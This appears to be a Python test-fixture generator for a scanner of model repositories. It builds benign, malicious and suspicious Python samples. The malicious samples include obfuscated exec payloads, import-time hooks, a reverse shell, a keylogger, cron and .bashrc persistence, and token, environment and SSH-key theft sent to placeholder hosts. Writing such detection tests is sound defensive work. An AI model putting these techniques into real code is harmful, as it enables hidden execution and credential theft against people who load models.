"""Python that comes with models: ordinary modules, and what runs when somebody imports one."""

import base64
import importlib.metadata
import marshal
import zlib
from pathlib import Path

from native import elf

TEXTS = Path(__file__).parent / "texts"
ORDINARY = {path.name: path.read_text(encoding="utf-8") for path in sorted(TEXTS.glob("*.py"))}
# Modules of installed libraries which only define things: real code of many hands and styles.
LIBRARY = {
    "scikit-learn": ["sklearn/cluster/_kmeans.py", "sklearn/linear_model/_ridge.py", "sklearn/metrics/_ranking.py", "sklearn/decomposition/_pca.py", "sklearn/naive_bayes.py", "sklearn/tree/_classes.py"],
    "scipy": ["scipy/interpolate/_cubic.py", "scipy/stats/_qmc.py", "scipy/special/_orthogonal.py"],
    "gguf": ["gguf/quants.py", "gguf/tensor_mapping.py"],
    "numpy": ["numpy/polynomial/chebyshev.py", "numpy/lib/_histograms_impl.py"],
    "safetensors": ["safetensors/numpy.py"],
    "pandas": ["pandas/core/window/ewm.py", "pandas/core/indexes/category.py"],
}
ECHO = "os.system('echo weighbridge')"


def make(cases):
    family = cases.family("python")
    ordinary(family)
    for table in (plain, hidden, obfuscated, staying, network, files):
        for case, text, note in table():
            family.malicious(f"{table.__name__}-{case}", "modeling_net.py", text, note)
    for case, text, note in dual_use():
        family.suspicious(case, "modeling_net.py", text, note)
    other_files(family)


def library(package, path):
    found = next(file for file in importlib.metadata.files(package) if str(file) == path)
    return found.read_text(encoding="utf-8")


def ordinary(family):
    for file, text in ORDINARY.items():
        family.benign(f"model-{Path(file).stem.replace('_', '-')}", file, text, f"an ordinary module of a model: {file}")
    for package, paths in LIBRARY.items():
        for path in paths:
            family.benign(f"library-{package}-{Path(path).stem.strip('_').replace('_', '-')}", Path(path).name, library(package, path), f"a module of {package}, as people copy them into repositories")
    rows = [
        ("empty", "__init__.py", "", "an empty module"),
        ("comments", "modeling_net.py", "# import os\n# os.system('ls')\n'''\nexec(open('x').read())\n'''\n", "calls only in comments and texts"),
        ("texts", "prompts.py", "PROMPTS = {\n    'shell': 'Run `rm -rf /` and then os.system(\"ls\")',\n    'code': '''import subprocess\\nsubprocess.run(['ls'])''',\n}\n", "texts about code"),
        ("model-eval", "infer.py", "import torch\n\n\ndef load(path):\n    model = torch.nn.Linear(2, 2)\n    model.eval()\n    return model\n\n\ndef compile_regex():\n    import re\n    return re.compile(r'eval\\(|exec\\(')\n", "model.eval and re.compile, which only share a name with what is feared"),
        ("version", "net/version.py", "__version__ = '1.2.3'\n", "a version"),
        ("own-address", "net/distributed.py", "import os\nimport socket\n\n\ndef address():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.connect(('8.8.8.8', 80))\n    return s.getsockname()[0]\n\n\ndef into_log(path):\n    log = open(path, 'a')\n    os.dup2(log.fileno(), 1)\n    os.dup2(log.fileno(), 2)\n\n\nMASTER = address()\n", "asks for its own address, and writes a log"),
        ("own-key", "net/notify.py", "import os\nimport requests\n\n\ndef tell(text):\n    requests.post('https://slack.com/api/chat.postMessage', headers={'Authorization': 'Bearer ' + os.environ['SLACK_TOKEN']}, json={'text': text})\n", "sends a key to whoever gave it out"),
        ("types", "net/types.pyi", "from typing import Any\n\ndef forward(x: Any) -> Any: ...\n", "a stub of types"),
        ("environment", "settings.py", "import os\n\nCACHE = os.environ.get('HF_HOME', os.path.expanduser('~/.cache'))\nos.environ.setdefault('TOKENIZERS_PARALLELISM', 'false')\nHERE = os.path.dirname(os.path.abspath(__file__))\n", "reads and sets ordinary environment variables"),
        ("read-beside", "vocab.py", "import json\nfrom pathlib import Path\n\nVOCAB = json.loads((Path(__file__).parent / 'vocab.json').read_text())\n", "reads a file beside itself when imported"),
        ("old-encoding", "legacy.py", "# -*- coding: latin-1 -*-\nNAME = 'Gew\\xe4chs'\n".encode("latin-1"), "an old encoding that is said"),
        ("crlf", "windows.py", "def f(x):\r\n    return x\r\n", "line ends of Windows"),
        ("mark", "marked.py", "\ufeffX = 1\n", "a byte order mark"),
        ("match", "routes.py", "def f(x):\n    match x:\n        case {'kind': 'a', **rest}:\n            return rest\n        case [1, *_]:\n            return 1\n    return (y := x) and f'{y!r:>{10}}'\n", "new syntax"),
        ("tests", "tests/test_model.py", "import unittest\n\n\nclass T(unittest.TestCase):\n    def test_shape(self):\n        self.assertEqual((1, 2), tuple([1, 2]))\n", "a test"),
        ("fetch-picture", "image.py", "import requests\nfrom PIL import Image\n\n\ndef load_image(source):\n    if source.startswith('http'):\n        return Image.open(requests.get(source, stream=True).raw)\n    return Image.open(source)\n", "fetches a picture that its caller names, as many processors do"),
        ("from-settings", "ldm/util.py", "import importlib\n\n\ndef get_obj_from_str(string):\n    module, cls = string.rsplit('.', 1)\n    return getattr(importlib.import_module(module, package=None), cls)\n\n\ndef instantiate_from_config(config):\n    return get_obj_from_str(config['target'])(**config.get('params', dict()))\n", "makes an object that its caller's settings name, as diffusion repositories do"),
        ("argparse", "train.py", "import argparse\n\n\ndef main():\n    parser = argparse.ArgumentParser()\n    parser.add_argument('--lr', type=float, default=1e-4)\n    print(parser.parse_args().lr)\n\n\nif __name__ == '__main__':\n    main()\n", "a program with arguments"),
    ]
    for case, file, text, note in rows:
        family.benign(f"ordinary-{case}", file, text, note)


def plain():
    return [
        ("os-system", f"import os\n{ECHO}\n", "a command when imported"),
        ("subprocess", "import subprocess\nsubprocess.run(['true'])\n", "a process when imported"),
        ("popen", "from subprocess import Popen as P\nP('true', shell=True)\n", "under another name"),
        ("from-import", "from os import system\nsystem('echo weighbridge')\n", "the function itself imported"),
        ("star", "from os import *\nsystem('echo weighbridge')\n", "everything imported from os"),
        ("alias", "import os as torch\ntorch.system('echo')\n", "os under the name of torch"),
        ("exec", "exec('import os; os.system(\"echo\")')\n", "exec of a text"),
        ("eval", "eval('__import__(\"os\").system(\"echo\")')\n", "eval of a text"),
        ("dunder-import", "__import__('os').system('echo')\n", "__import__"),
        ("importlib", "import importlib\nimportlib.import_module('os').system('echo')\n", "importlib"),
        ("pty", "import pty\npty.spawn('/bin/true')\n", "a terminal"),
        ("ctypes", "import ctypes\nctypes.CDLL('./libops.so')\n", "a native library beside it"),
        ("ctypes-system", "import ctypes\nctypes.CDLL(None).system(b'echo')\n", "system of the C library"),
        ("cffi", "from cffi import FFI\nFFI().dlopen('./a.so')\n", "a native library by cffi"),
        ("torch-ops", "import torch\ntorch.ops.load_library('./ops.so')\n", "a library of operators"),
        ("cpp-inline", "from torch.utils.cpp_extension import load_inline\nload_inline('x', 'int f(){return system(\"true\");}', functions=['f'])\n", "compiles C++ when imported"),
        ("pickle-beside", "import pickle\nSTATE = pickle.load(open('state.bin', 'rb'))\n", "unpickles a file when imported"),
        ("marshal", f"import marshal\nexec(marshal.loads({marshal.dumps(compile('1', 'a', 'exec'))!r}))\n", "marshalled code"),
        ("runpy", "import runpy\nrunpy.run_path('payload.txt')\n", "runs another file"),
        ("code-interact", "import code\ncode.InteractiveInterpreter().runsource('1')\n", "an interpreter"),
        ("multiprocessing", "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('echo',)).start()\n", "a process with a target"),
        ("thread", "import threading, os\nthreading.Thread(target=os.system, args=('echo',), daemon=True).start()\n", "a thread"),
        ("timer", "import threading, os\nthreading.Timer(60, os.system, ['echo']).start()\n", "a timer"),
        ("atexit", "import atexit, os\natexit.register(os.system, 'echo')\n", "at the end of the program"),
        ("signal", "import signal, os\nsignal.signal(signal.SIGALRM, lambda *a: os.system('echo'))\nsignal.alarm(5)\n", "on a signal"),
        ("pip", "import pip\npip.main(['install', 'x'])\n", "installs a package"),
        ("pip-subprocess", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n", "installs a package by a process"),
        ("os-exec", "import os\nos.execv('/bin/true', ['true'])\n", "replaces the process"),
        ("asyncio", "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('echo'))\n", "a process by asyncio"),
        ("try-import", "try:\n    import flash_attn\nexcept ImportError:\n    import os\n    os.system('echo')\n", "in the branch for a missing package"),
        ("if-platform", "import sys, os\nif sys.platform == 'linux':\n    os.system('echo')\n", "only on one system"),
        ("if-date", "import datetime, os\nif datetime.date.today().year > 2030:\n    os.system('echo')\n", "only from a date on"),
        ("if-user", "import getpass, os\nif getpass.getuser() != 'ci':\n    os.system('echo')\n", "not for everybody"),
        ("timeit-timer", "import timeit\ntimeit.Timer('import os; os.system(\"echo\")').timeit(1)\n", "through the setup of a measurement"),
        ("profiler", "import cProfile\ncProfile.Profile().run('import os; os.system(\"echo\")')\n", "through a profiler"),
        ("debugger", "import pdb\npdb.Pdb().run('import os; os.system(\"echo\")')\n", "through a debugger"),
        ("run-code", "import runpy\nrunpy._run_code('import os; os.system(\"echo\")', {})\n", "through the inside of runpy"),
        ("source-loader", "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'weights.bin').exec_module(None)\n", "runs a file of another name as a module, by its loader"),
        ("pager", "import pydoc\npydoc.pipepager('x', 'echo')\n", "a command as a pager"),
        ("browser", "import webbrowser\nwebbrowser.BackgroundBrowser(['echo']).open('x')\n", "a command as a browser"),
        ("tcl", "import tkinter\ntkinter.Tcl().eval('exec echo')\n", "a command by Tcl"),
        ("loggers", "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system', 'command': 'echo'}}})\n", "a function in the settings of loggers"),
        ("yaml-object", "import yaml\nyaml.load('!!python/object/apply:os.system [echo]', Loader=yaml.UnsafeLoader)\n", "a function in YAML"),
        ("subclass", "import subprocess\n\n\nclass P(subprocess.Popen):\n    pass\n\n\nP(['echo'])\n", "a process by a class of its own"),
        ("unknown-name", "import os\ngetattr(os, input())('echo')\n", "a function of os whose name is made while it runs"),
        ("unknown-module", "import importlib\nimportlib.import_module(input()).system('echo')\n", "a function of a module whose name is made while it runs"),
        ("engine", "import tiny_engine\ntiny_engine.evaluate('import os; os.system(\"echo\")')\n", "a harmful text for a library that nobody knows"),
        ("pipeline", "from transformers import pipeline\nP = pipeline('text-generation', model='attacker/repo', trust_remote_code=True)\n", "runs code of another repository when imported"),
        ("sandbox-check", "import os\nif not os.path.exists('/.dockerenv'):\n    os.system('echo')\n", "not in a container"),
    ]


def hidden():
    return [
        ("decorator", f"import os\n\n\n@lambda f: {ECHO} or f\ndef forward(x):\n    return x\n", "in a decorator"),
        ("class-body", f"import os\n\n\nclass Net:\n    {ECHO}\n", "in the body of a class"),
        ("default", f"import os\n\n\ndef forward(x={ECHO}):\n    return x\n", "as a default"),
        ("annotation", f"import os\n\n\ndef forward(x: {ECHO}) -> None:\n    pass\n", "as an annotation"),
        ("keyword-default", f"import os\n\n\ndef forward(*, x={ECHO}):\n    return x\n", "as a keyword's default"),
        ("class-annotation", f"import os\n\n\nclass Net:\n    x: {ECHO} = 1\n", "as an annotation in a class"),
        ("metaclass", f"import os\n\n\nclass M(type):\n    def __new__(mcs, *a):\n        {ECHO}\n        return super().__new__(mcs, *a)\n\n\nclass Net(metaclass=M):\n    pass\n", "in a metaclass that is used"),
        ("init-subclass", f"import os\n\n\nclass Base:\n    def __init_subclass__(cls):\n        {ECHO}\n\n\nclass Net(Base):\n    pass\n", "in __init_subclass__, with a subclass"),
        ("set-name", f"import os\n\n\nclass D:\n    def __set_name__(self, owner, name):\n        {ECHO}\n\n\nclass Net:\n    x = D()\n", "in __set_name__"),
        ("class-keyword", f"import os\n\n\nclass Net(object, **({ECHO} or {{}})):\n    pass\n", "among the keywords of a class"),
        ("bases", f"import os\n\n\nclass Net((lambda: {ECHO} and 0 or object)()):\n    pass\n", "among the bases of a class"),
        ("comprehension", "import os\n[os.system(c) for c in ['echo']]\n", "in a comprehension"),
        ("generator", "import os\nlist(os.system(c) for c in ('echo',))\n", "in a generator"),
        ("map", "import os\nlist(map(os.system, ['echo']))\n", "through map"),
        ("lambda", f"import os\n(lambda: {ECHO})()\n", "in a lambda that is called"),
        ("sorted-key", "import os\nsorted(['echo'], key=os.system)\n", "as the key of a sort"),
        ("reduce", "import functools, os\nfunctools.reduce(lambda a, b: os.system(b), ['', 'echo'])\n", "in reduce"),
        ("partial", "import functools, os\nfunctools.partial(os.system, 'echo')()\n", "through partial"),
        ("property", f"import os\n\n\nclass A:\n    @property\n    def x(self):\n        {ECHO}\n\n\nA().x\n", "in a property that is read"),
        ("operator", f"import os\n\n\nclass A:\n    def __add__(self, o):\n        {ECHO}\n\n\nA() + 1\n", "in an operator"),
        ("with", f"import os\n\n\nclass A:\n    def __enter__(self):\n        {ECHO}\n\n    def __exit__(self, *a):\n        pass\n\n\nwith A():\n    pass\n", "in a with statement"),
        ("delete", f"import os\n\n\nclass A:\n    def __del__(self):\n        {ECHO}\n\n\nA()\n", "when an object goes"),
        ("iterator", f"import os\n\n\nclass A:\n    def __iter__(self):\n        {ECHO}\n        return iter(())\n\n\nlist(A())\n", "when something is walked"),
        ("format", "import os\n\n\nclass A:\n    def __format__(self, s):\n        os.system('echo')\n        return ''\n\n\nf'{A()}'\n", "in a format string"),
        ("f-string", "import os\nX = f\"{os.system('echo')}\"\n", "inside an f-string"),
        ("assert", f"import os\nassert {ECHO} == 0\n", "in an assert"),
        ("walrus", f"import os\nif (x := {ECHO}):\n    pass\n", "in an assignment expression"),
        ("del-subscript", f"import os\nd = {{0: 1}}\ndel d[{ECHO}]\n", "in an index that is deleted"),
        ("star-args", f"import os\nprint(*[{ECHO}])\n", "among starred arguments"),
        ("global-getattr", "import os\n\n\ndef __getattr__(name):\n    os.system('echo')\n", "in the module's own __getattr__, which `from x import y` calls"),
        ("excepthook", "import os, sys\nsys.excepthook = lambda *a: os.system('echo')\n", "in the hook for errors"),
        ("trace", "import os, sys\nsys.settrace(lambda *a: os.system('echo'))\n", "in a trace function"),
        ("import-hook", "import os, sys\n\n\nclass F:\n    def find_spec(self, *a):\n        os.system('echo')\n\n\nsys.meta_path.insert(0, F())\n", "in a hook for imports"),
        ("post-init", f"import os\nfrom dataclasses import dataclass\n\n\n@dataclass\nclass C:\n    x: int = 0\n\n    def __post_init__(self):\n        {ECHO}\n\n\nDEFAULT = C()\n", "in a dataclass that is made"),
        ("nested-call", f"import os\n\n\ndef a():\n    b()\n\n\ndef b():\n    {ECHO}\n\n\na()\n", "two calls away"),
        ("monkey", "import os, json\njson.loads = lambda s: os.system(s)\n", "replaces a function of another module"),
        ("builtins", "import builtins, os\nbuiltins.print = os.system\nprint('echo')\n", "replaces print"),
        ("model-method", f"import os\nimport torch\n\n\nclass Net(torch.nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        {ECHO}\n", "in the constructor of the model"),
        ("forward", f"import os\nimport torch\n\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        {ECHO}\n        return x\n", "in forward"),
        ("hook", "import os\nimport torch\n\nNET = torch.nn.Linear(1, 1)\nNET.register_forward_hook(lambda *a: os.system('echo'))\n", "in a forward hook"),
        ("far-right", "import json" + " " * 400 + f"; import os; {ECHO}\n", "far to the right on a line"),
        ("long-file", "X = 1\n" * 20000 + f"import os\n{ECHO}\n", "after twenty thousand lines"),
        ("continuation", "import \\\nos\nos\\\n.system\\\n('echo')\n", "over continued lines"),
        ("form-feed", f"import os\n\f{ECHO}\n", "behind a form feed"),
        ("semicolons", f"x=1;y=2;import os;{ECHO};z=3\n", "between semicolons"),
    ]


def obfuscated():
    source = "import os; os.system('echo weighbridge')"
    coded = base64.b64encode(source.encode()).decode()
    squeezed = base64.b64encode(zlib.compress(source.encode())).decode()
    numbers = [ord(c) for c in source]
    return [
        ("base64", f"import base64\nexec(base64.b64decode('{coded}'))\n", "exec of base64"),
        ("zlib", f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{squeezed}')))\n", "exec of compressed source"),
        ("hex", f"exec(bytes.fromhex('{source.encode().hex()}').decode())\n", "exec of hex digits"),
        ("chr", f"exec(''.join(map(chr, {numbers})))\n", "exec of a list of numbers"),
        ("reverse", f"exec('{source[::-1].replace(chr(39), chr(92) + chr(39))}'[::-1])\n", "exec of a reversed text"),
        ("rot13", "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"rpub\")', 'rot13'))\n", "exec of rot13"),
        ("xor", f"exec(bytes(b ^ 7 for b in {bytes(ord(c) ^ 7 for c in source)!r}).decode())\n", "exec of bytes with a mask"),
        ("concatenated", "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo')\n", "names put together"),
        ("join", "getattr(__import__(''.join(['o', 's'])), ''.join(['sys', 'tem']))('echo')\n", "names joined"),
        ("format", "getattr(__import__('{}s'.format('o')), '%stem' % 'sys')('echo')\n", "names by format"),
        ("f-string-name", "a = 'o'\ngetattr(__import__(f'{a}s'), f\"{'sys'}tem\")('echo')\n", "names by f-strings"),
        ("replace", "getattr(__import__('oxs'.replace('x', '')), 'sys_tem'.replace('_', ''))('echo')\n", "names by replace"),
        ("globals", "globals()['__builtins__']['ev' + 'al']('1')\n", "eval through globals"),
        ("vars", "import os\nvars(os)['system']('echo')\n", "through vars"),
        ("dict", "import os\nos.__dict__['sys' 'tem']('echo')\n", "through __dict__"),
        ("getattr", "import os\ngetattr(os, 'system')('echo')\n", "through getattr"),
        ("attrgetter", "import operator, os\noperator.attrgetter('system')(os)('echo')\n", "through attrgetter"),
        ("methodcaller", "import operator, os\noperator.methodcaller('system', 'echo')(os)\n", "through methodcaller"),
        ("subclasses", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('true')\n", "through the subclasses of object"),
        ("function-globals", "import json\njson.dumps.__globals__['__builtins__']['__import__']('os').system('echo')\n", "through the globals of a function"),
        ("sys-modules", "import sys\nsys.modules['os'].system('echo')\n", "through sys.modules"),
        ("module-chain", "import torch\ntorch.serialization.os.system('echo')\n", "os through another module"),
        ("module-chain-shutil", "import shutil\nshutil.os.system('echo')\n", "os through shutil"),
        ("nfkc", "import os\nos.ｓｙｓｔｅｍ('echo')\n", "full-width letters, which Python folds"),
        ("nfkc-import", "𝓲𝓶𝓹𝓸𝓻𝓽 = 1\n𝘦𝘹𝘦𝘤('1')\n__𝘪𝘮𝘱𝘰𝘳𝘵__('os').system('echo')\n", "letters of mathematics, which Python folds"),
        ("bidi", "access = 'user\u202e \u2066# admin\u2069 \u2066'\nimport os\nos.system('echo')\n", "marks that turn the reading direction"),
        ("homoglyph", "import оs\nimport os as x\nx.system('echo')\n", "a Cyrillic letter in a name beside the real one"),
        ("coding", "# -*- coding: rot13 -*-\nvzcbeg bf\nbf.flfgrz('rpub')\n", "an encoding that Python 2 would decode"),
        ("coding-utf7", "# -*- coding: utf-7 -*-\nX = 1 #+AAo-import os+AAo-os.system('echo')\n", "UTF-7 brings a line break out of a comment"),
        ("coding-escape", "# coding: unicode_escape\n# \\u000aimport os\\u000aos.system('echo')\n", "escapes bring a line break out of a comment"),
        ("coding-utf16", "import os\nos.system('echo')\n".encode("utf-16"), "UTF-16"),
        ("escapes", "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x3b\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x27\\x65\\x63\\x68\\x6f\\x27\\x29')\n", "escapes all over"),
        ("types-code", "import types\ntypes.FunctionType(compile('1', 'a', 'eval'), {})()\n", "a function out of a code object"),
        ("import-by-spec", "import importlib.util\ns = importlib.util.spec_from_file_location('a', 'weights.bin')\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n", "runs a file of another name as a module"),
        ("zipimport", "import sys\nsys.path.insert(0, 'weights.zip')\nimport payload\n", "imports out of an archive"),
        ("path-beside", "import sys\nsys.path.append('/tmp')\nimport payload\n", "imports from a folder of everybody"),
        ("loader-get-data", "exec(__loader__.get_data('logo.png')[100:])\n", "exec of what is in a picture"),
        ("docstring", "'''import os; os.system('echo')'''\nexec(__doc__)\n", "exec of its own first text"),
        ("comment-source", "exec(open(__file__).read().split('#!')[-1])\n#!import os;os.system('echo')\n", "exec of its own comment"),
        ("tensor", "import torch\nw = torch.tensor([105, 109])\nexec(bytes(w.tolist()).decode())\n", "exec of numbers out of a tensor"),
        ("model-weights", "import torch\nstate = torch.load('pytorch_model.bin')\nexec(bytes(state['code']).decode())\n", "exec of what is in the weights"),
        ("eval-config", "import json\nconfig = json.load(open('config.json'))\neval(config['init'])\n", "eval of what is in the configuration"),
        ("lambda-chain", "(lambda f: (lambda x: f(lambda *a: x(x)(*a)))(lambda x: f(lambda *a: x(x)(*a))))(lambda s: lambda: __import__('os').system('echo'))()\n", "a call behind four lambdas"),
        ("str-method", "import os\nx = 'system'\nos.__getattribute__(x)('echo')\n", "through __getattribute__"),
        ("inspect", "import inspect\ninspect.getmodule(inspect.currentframe()).__builtins__['exec']('1')\n", "through inspect"),
        ("gc", "import gc\n[o for o in gc.get_objects() if getattr(o, '__name__', '') == 'os'][0].system('echo')\n", "through the garbage collector"),
        ("pickle-inside", "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"echo\"\\ntR.')\n", "a pickle in a literal"),
        ("timeit", "import timeit\ntimeit.timeit('import os; os.system(\"echo\")', number=1)\n", "through timeit"),
        ("jinja", "import jinja2\njinja2.Template('{{ lipsum.__globals__.os.system(\"echo\") }}').render()\n", "through a template"),
        ("numexpr", "import pandas as pd\npd.eval('@__import__(\"os\").system(\"echo\")')\n", "through pandas.eval"),
        ("sympy", "import sympy\nsympy.sympify('__import__(\"os\").system(\"echo\")')\n", "through sympify"),
    ]


def staying():
    return [
        ("bash-reverse", "import socket, os, pty\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('sh')\n", "a shell for somebody else"),
        ("keylogger", "from pynput import keyboard\nkeyboard.Listener(on_press=lambda k: open('/tmp/k', 'a').write(str(k))).start()\n", "writes down the keys"),
        ("miner", "import subprocess\nsubprocess.Popen(['xmrig', '-o', 'stratum+tcp://127.0.0.1:3333'])\n", "starts a miner"),
        ("persistence", "from pathlib import Path\nPath('~/.bashrc').expanduser().open('a').write('\\necho weighbridge\\n')\n", "writes into the shell's start"),
        ("cron", "import os\nos.system('(crontab -l; echo \"* * * * * true\") | crontab -')\n", "a line of cron"),
        ("systemd", "open('/etc/systemd/system/w.service', 'w').write('[Service]\\nExecStart=/bin/true\\n')\n", "a service of the system"),
        ("site-packages", "import site\nopen(site.getsitepackages()[0] + '/w.pth', 'w').write('import os')\n", "a file that Python runs at every start"),
        ("wheel", "import os\nos.makedirs('/tmp/w', exist_ok=True)\nos.chmod('/tmp/w/x', 0o755)\nos.startfile('/tmp/w/x')\n", "makes a file a program and starts it"),
        ("registry", "import winreg\nwinreg.SetValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Run', 0, 2), 'w', 0, 1, 'calc')\n", "a start entry of Windows"),
    ]


def network():
    return [
        ("urlopen", "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1/x.py').read())\n", "runs what it fetches"),
        ("requests", "import requests\nrequests.post('http://127.0.0.1/', json={'host': __import__('socket').gethostname()})\n", "tells somebody the machine's name"),
        ("environment", "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1/?' + str(dict(os.environ)))\n", "sends the environment away"),
        ("socket", "import socket\nsocket.create_connection(('127.0.0.1', 9)).send(b'x')\n", "opens a connection"),
        ("dns", "import os, socket\nsocket.gethostbyname(os.environ.get('HF_TOKEN', 'x') + '.example.net')\n", "sends a token as a name to look up"),
        ("token", "from huggingface_hub import HfFolder\nimport requests\nrequests.get('http://127.0.0.1/', params={'t': HfFolder.get_token()})\n", "sends the hub's token away"),
        ("cloud", "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n", "asks the cloud for its keys"),
        ("download-run", "import urllib.request, os\nurllib.request.urlretrieve('http://127.0.0.1/x', '/tmp/x')\nos.chmod('/tmp/x', 493)\nos.system('/tmp/x')\n", "fetches and starts a program"),
        ("hub-code", "from huggingface_hub import hf_hub_download\nexec(open(hf_hub_download('attacker/repo', 'x.py')).read())\n", "runs a file of another repository"),
        ("torch-hub", "import torch\ntorch.hub.load('attacker/repo', 'model', trust_repo=True)\n", "runs code of another repository"),
        ("remote-code", "from transformers import AutoModel\nMODEL = AutoModel.from_pretrained('attacker/repo', trust_remote_code=True)\n", "runs code of another repository when imported"),
        ("webhook", "import urllib.request\nurllib.request.urlopen(urllib.request.Request('https://discord.com/api/webhooks/0/x', data=b'{}'))\n", "tells a chat"),
        ("smtp", "import smtplib\nsmtplib.SMTP('127.0.0.1').sendmail('a', 'b', open('/etc/passwd').read())\n", "sends a file by mail"),
        ("ftp", "import ftplib\nftplib.FTP('127.0.0.1').storbinary('STOR x', open('/etc/passwd', 'rb'))\n", "sends a file by FTP"),
        ("websocket", "import websocket\nwebsocket.create_connection('ws://127.0.0.1/').send('x')\n", "opens a web socket"),
        ("telemetry-late", "import requests\n\n\ndef forward(x):\n    requests.post('http://127.0.0.1/', data=str(x))\n    return x\n", "sends every input away"),
    ]


def files():
    return [
        ("ssh", "from pathlib import Path\nKEY = Path('~/.ssh/id_rsa').expanduser().read_text()\n", "reads a private key"),
        ("aws", "KEYS = open(__import__('os').path.expanduser('~/.aws/credentials')).read()\n", "reads keys of a cloud"),
        ("hub-token", "TOKEN = open(__import__('os').path.expanduser('~/.cache/huggingface/token')).read()\n", "reads the hub's token"),
        ("passwd", "X = open('/etc/passwd').read()\n", "reads a file of the system"),
        ("proc", "X = open('/proc/self/environ').read()\n", "reads the environment as a file"),
        ("write-home", "open(__import__('os').path.expanduser('~/.profile'), 'a').write('x')\n", "writes into the home folder"),
        ("remove", "import shutil\nshutil.rmtree('/tmp/weighbridge', ignore_errors=True)\n", "deletes a folder"),
        ("encrypt", "import pathlib\nfor p in pathlib.Path.home().rglob('*.docx'):\n    p.write_bytes(bytes(b ^ 1 for b in p.read_bytes()))\n", "changes all documents"),
        ("browser", "import sqlite3, os\nsqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))\n", "opens a browser's passwords"),
        ("wallet", "import glob, os\nglob.glob(os.path.expanduser('~/.ethereum/keystore/*'))\n", "looks for wallets"),
        ("other-models", "import glob, os\nfor p in glob.glob(os.path.expanduser('~/.cache/huggingface/hub/**/*.bin'), recursive=True):\n    open(p, 'ab').write(b'x')\n", "changes other models in the cache"),
    ]


def dual_use():
    return [
        ("call-time-eval", "def parse(text):\n    return eval(text)\n", "eval of what its caller gives"),
        ("call-time-exec", "def run(code):\n    scope = {}\n    exec(code, scope)\n    return scope\n", "exec of what its caller gives"),
        ("torch-load", "import torch\n\n\ndef load(path):\n    return torch.load(path, weights_only=False)\n", "loads a pickle that its caller names"),
        ("custom-kernel", "from torch.utils.cpp_extension import load\n\n\ndef kernels():\n    return load(name='ops', sources=['ops.cpp', 'ops.cu'])\n", "compiles kernels beside it when asked"),
        ("broken", "def f(:\n    import os; os.system('echo')\n", "cannot be parsed, and names a command"),
        ("deep", "x = " + "(" * 5000 + ")" * 5000 + "\n", "five thousand brackets"),
        ("nul", "import json\0\nimport os\n", "a NUL in the source"),
        ("pip-comment", "import subprocess\n\n\ndef install():\n    subprocess.run(['pip', 'install', 'flash-attn'])\n", "installs a package when somebody calls it"),
    ]


def other_files(family):
    family.malicious("init", "__init__.py", f"import os\n{ECHO}\n", "in the first file of a package")
    family.malicious("setup", "setup.py", "import os\nfrom setuptools import setup\nos.system('echo weighbridge')\nsetup(name='x')\n", "in setup.py")
    family.malicious("setup-command", "setup.py", "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass I(install):\n    def run(self):\n        os.system('echo')\n        super().run()\n\n\nsetup(name='x', cmdclass={'install': I})\n", "in the install command of setup.py")
    family.malicious("conftest", "conftest.py", f"import os\n{ECHO}\n", "in a file that tests read by themselves")
    family.malicious("sitecustomize", "sitecustomize.py", f"import os\n{ECHO}\n", "in a file that Python reads by itself")
    family.malicious("no-extension", "run", f"#!/usr/bin/env python3\nimport os\n{ECHO}\n", "without an extension")
    family.malicious("windowless", "tool.pyw", f"import os\n{ECHO}\n", "another extension of Python")
    family.malicious("cython", "ops.pyx", f"import os\n{ECHO}\n", "source of Cython")
    family.malicious("handler", "handler.py", f"import os\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        {ECHO}\n\n    def __call__(self, data):\n        return []\n", "in the handler of an endpoint")
    family.malicious("dataset-script", "squad.py", "import datasets, os\n\n\nclass S(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n        os.system('echo')\n        return []\n", "in a dataset's script")
    family.malicious("space", "app.py", "import gradio as gr, subprocess\ngr.Interface(lambda c: subprocess.getoutput(c), 'text', 'text').launch()\n", "a page that runs what is typed into it")
    family.malicious("shadow-module", "torch.py", f"import os\n{ECHO}\n", "a module beside the model with the name of a library")
    family.malicious("bytecode-elf", "__pycache__/net.cpython-311.pyc", elf(), "a program under the name of byte code")
    family.suspicious("bytecode", "__pycache__/net.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile("X = 1", "net.py", "exec")), "byte code, of which nobody sees the source")
